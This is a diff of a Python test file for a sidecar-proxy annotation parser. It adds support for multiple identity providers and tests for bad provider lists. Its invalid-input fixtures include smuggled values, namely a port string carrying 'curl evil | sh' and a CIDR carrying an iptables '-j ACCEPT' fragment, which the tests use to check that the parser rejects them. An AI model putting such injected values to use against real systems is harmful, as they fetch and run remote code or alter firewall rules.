@@ -26,7 +26,7 @@ def test_everything_that_can_be_asked_for() -> None:
         exclude_outbound_ports="5432",
         exclude_outbound_cidrs="10.0.0.0/8,fd00::/8",
         identity="orders",
-        identity_provider="local",
+        identity_provider="local,old",
         log_level="error",
         log_access="true",
         ingress_protocol="h2c",
@@ -35,7 +35,7 @@ def test_everything_that_can_be_asked_for() -> None:
     assert isinstance(settings, PodSettings)
     assert settings.ingress == Ingress((80, 8443), (), ("a", "b"), ("orders.shop.svc", "x.shop.svc"), "h2c")
     assert settings.egress == Egress((5432,), ("10.0.0.0/8", "fd00::/8"), "keep")
-    assert (settings.identity, settings.provider) == ("orders", "local")
+    assert (settings.identity, settings.providers) == ("orders", ("local", "old"))
     assert (settings.log_level, settings.log_access) == ("error", True)
     assert settings.redirect is Redirect.IPTABLES
     assert settings.resources.cpu_limit
@@ -84,6 +84,9 @@ PORTS = ["80; curl evil | sh", "0", "65536", "-1", "８０", "", "80,", "80, 443
             for value in ("10.0.0.1/8", "10.0.0.0", "x/8", "fe80::%eth0/64", "10.0.0.0/33", "10.0.0.0/8 -j ACCEPT")
         ],
         ({"ingress": "yes"}, 'ingress]: got "yes", wanted true or false'),
+        ({**BASE, "identity_provider": "a, b"}, 'identity.provider]: got " b"'),
+        ({**BASE, "identity_provider": "a,a"}, 'identity.provider]: got "a,a", wanted each item once'),
+        ({**BASE, "identity_provider": "a,b,c,d,e,f,g,h,i"}, "wanted at most 8 providers"),
         ({"ingress": "true"}, "wanted aegisproxy.io/identity or aegisproxy.io/identity.provider beside it"),
         ({"identity": "a"}, 'identity]: got "a", wanted aegisproxy.io/ingress: "true" or aegisproxy.io/egress: "true"'),
         ({**BASE, "exclude_outbound_ports": "1"}, 'wanted aegisproxy.io/egress: "true" beside it'),
